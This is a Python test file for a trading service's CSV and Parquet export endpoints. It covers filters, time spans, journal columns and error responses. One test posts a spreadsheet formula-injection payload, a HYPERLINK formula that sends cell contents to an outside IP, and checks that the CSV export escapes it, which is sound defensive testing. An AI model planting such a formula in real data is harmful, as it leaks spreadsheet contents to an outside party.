"""Lists as files: CSV and Parquet with the filters of the list, and the journal."""

import csv
import io
from collections.abc import Callable
from typing import Any

import pyarrow.parquet
import pytest

from tests.client import Client, Strategy
from tests.databases import ENGINES
from tests.server import Server
from tests.waiting import wait_for
from tests.web.api.refused import refused
from tradehook.web.api.export_lists import JOURNAL, LISTS


@pytest.fixture(params=ENGINES)
def server(request: pytest.FixtureRequest, servers: Callable[[str], Server]) -> Server:
    """A server on each engine in turn: these tests are about what is read from the store."""
    return servers(request.param)


@pytest.fixture
def strategy(client: Client) -> Strategy:
    """A strategy that one account follows."""
    return client.make_strategy()


@pytest.fixture
def account_id(client: Client, strategy: Strategy) -> str:
    """An account, on prices set by hand, which bought 3 PEP at 170.50 and sold 1 at 171."""
    account_id = client.open_account()
    client.subscribe(strategy, account_id)
    for price, message in (
        ("170.50", {"ticker": "PEP", "action": "buy", "quantity": 3}),
        ("171", {"ticker": "PEP", "action": "exit", "quantity": 1}),
    ):
        client.set_price("PEP", price)
        client.carried_out(strategy, message)
    return account_id


def rows_of(client: Client, name: str, **asked: Any) -> list[dict[str, str]]:
    answer = client.api.get(f"/exports/{name}", params=asked)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == f'attachment; filename="{name}.csv"'
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


def table_of(client: Client, name: str, **asked: Any) -> Any:
    answer = client.api.get(f"/exports/{name}", params={**asked, "format": "parquet"})
    assert answer.status_code == 200, answer.text
    return pyarrow.parquet.read_table(io.BytesIO(answer.content))


def test_a_file_holds_what_the_list_does_from_the_oldest_on(client: Client, account_id: str) -> None:
    listed = client.listed("/fills", account_id=account_id)[::-1]

    rows = rows_of(client, "fills", account_id=account_id)

    assert [row["side"] for row in rows] == ["buy", "sell"]
    assert rows == [{name: _cell(value) for name, value in fill.items()} for fill in listed]


def _cell(value: Any) -> str:
    return "" if value is None else str(value).lower() if isinstance(value, bool) else str(value)


def test_parquet_has_types_and_exact_numbers(client: Client, account_id: str) -> None:
    table = table_of(client, "fills", account_id=account_id)

    kinds = {field.name: str(field.type) for field in table.schema}
    assert (kinds["price"], kinds["busted"], kinds["happened_at"]) == ("string", "bool", "timestamp[us, tz=UTC]")
    assert table["price"].to_pylist() == ["170.5", "171"]
    happened = client.listed("/fills", account_id=account_id)[0]["happened_at"]
    assert table["happened_at"].to_pylist()[-1].isoformat() == happened.replace("Z", "+00:00")


def test_the_filters_are_those_of_the_list(client: Client, strategy: Strategy, account_id: str) -> None:
    assert len(rows_of(client, "fills", account_id=account_id, side="sell", symbol="nasdaq:pep")) == 1
    assert rows_of(client, "fills", account_id=account_id, symbol="KO") == []
    assert len(rows_of(client, "trades", strategy_id=strategy.id, status="completed")) == 2
    assert len(rows_of(client, "signals", strategy_id=strategy.id)) == 2
    assert len(rows_of(client, "deliveries", strategy_id=strategy.id, verdict="accepted")) == 2
    assert len(rows_of(client, "orders", account_id=account_id, side="buy")) == 1
    [held] = rows_of(client, "positions", account_id=account_id)
    assert (held["quantity"], held["market_price"], held["unrealised"]) == ("2", "171", "1")


def test_a_span_of_time_begins_with_its_first_instant_and_ends_before_its_last(client: Client, account_id: str) -> None:
    bought, sold = rows_of(client, "fills", account_id=account_id)
    span = {"account_id": account_id, "from": bought["happened_at"], "to": sold["happened_at"]}
    assert rows_of(client, "fills", **span) == [bought]
    assert rows_of(client, "fills", **(span | {"from": sold["happened_at"], "to": "2100-01-01T00:00:00Z"})) == [sold]


def test_a_strangers_text_is_no_formula(client: Client, strategy: Strategy) -> None:
    client.post(strategy, '=HYPERLINK("http://203.0.113.9/?"&A1)')
    [row] = rows_of(client, "deliveries", strategy_id=strategy.id)
    assert row["body"] == '\'=HYPERLINK("http://203.0.113.9/?"&A1)'
    table = table_of(client, "deliveries", strategy_id=strategy.id)
    assert table["body"].to_pylist() == ['=HYPERLINK("http://203.0.113.9/?"&A1)']


def test_a_journal_has_the_columns_that_other_programs_import(client: Client, account_id: str) -> None:
    bought, sold = rows_of(client, JOURNAL, account_id=account_id, timezone="America/New_York")

    first = list(bought)[:7]
    assert first == ["Date", "Time", "Symbol", "Quantity", "Price", "Side", "Commission"]
    assert [bought[name] for name in first[2:]] == ["PEP", "3", "170.5", "Buy", "0"]
    assert [sold[name] for name in ("Side", "Type", "Currency", "Multiplier")] == ["Sell", "Stock", "USD", "1"]
    assert sold["Account"] == client.call("GET", f"/accounts/{account_id}")["name"]
    utc = rows_of(client, JOURNAL, account_id=account_id)[0]
    assert utc["Date"] + "T" + utc["Time"] == client.listed("/fills", account_id=account_id)[1]["happened_at"][:19]
    assert bought["Time"] != utc["Time"]


def test_futures_and_options_are_spelled_as_journals_read_them(client: Client) -> None:
    account_id = client.open_account()
    strategy = client.make_strategy("futures")
    client.subscribe(strategy, account_id)
    symbol = client.call("GET", "/instruments/MNQ1!")["symbol"]
    client.set_price(symbol, "20000")
    client.carried_out(strategy, {"ticker": symbol, "action": "buy"})

    [row] = rows_of(client, JOURNAL, account_id=account_id)

    assert row["Symbol"] == symbol[:-4] + symbol[-2:]
    assert (row["Type"], row["Multiplier"], row["Underlying"]) == ("Future", "2", "MNQ")


def test_the_columns_of_every_file_are_told(client: Client) -> None:
    described = {each["name"]: each["columns"] for each in client.call("GET", "/exports")["items"]}
    assert described.keys() == {*LISTS, JOURNAL}
    assert [column["name"] for column in described["fills"]][:3] == ["id", "execution_id", "order_id"]
    assert {column["kind"] for column in described["fills"]} == {"text", "flag", "decimal", "moment"}


@pytest.mark.parametrize("name", ["accounts", "strategies", "orders"])
def test_what_has_parts_is_written_too(client: Client, account_id: str, name: str) -> None:
    columns = [column.name for column in LISTS[name].columns]
    rows = rows_of(client, name)
    assert rows
    assert list(rows[0]) == columns
    assert all(row["id"] for row in rows)


@pytest.mark.parametrize(
    ("path", "status", "code", "field"),
    [
        ("nothing", 404, "export-not-found", None),
        ("fills?format=xlsx", 422, "invalid-value", "format"),
        ("fills?sied=buy", 422, "unknown-filter", "sied"),
        ("fills?side=long", 422, "invalid-value", "side"),
        ("fills?limit=5", 422, "unknown-filter", "limit"),
        ("fills?from=yesterday", 422, "invalid-value", "from"),
        ("fills?from=2026-01-01T00:00:00", 422, "invalid-value", "from"),
        ("journal?timezone=Nowhere", 422, "invalid-timezone", "timezone"),
        ("positions?from=2026-01-01T00:00:00Z", 422, "unknown-filter", "from"),
    ],
)
def test_what_cannot_be_exported_is_refused(
    client: Client, path: str, status: int, code: str, field: str | None
) -> None:
    refused(client.api.get(f"/exports/{path}"), status, code, field)


def test_round_trips_are_a_file_too(client: Client, account_id: str) -> None:
    client.set_price("PEP", "172")
    client.call("POST", f"/accounts/{account_id}/close-position", {"symbol": "PEP"})
    wait_for(lambda: not client.listed("/positions", account_id=account_id), "the position to be closed")
    [trip] = rows_of(client, "round-trips", account_id=account_id)
    assert (trip["symbol"], trip["quantity"], trip["net"]) == ("PEP", "3", "3.5")
    refused(
        client.api.get("/exports/round-trips", params={"account_id": "none"}), 422, "account-not-found", "account_id"
    )
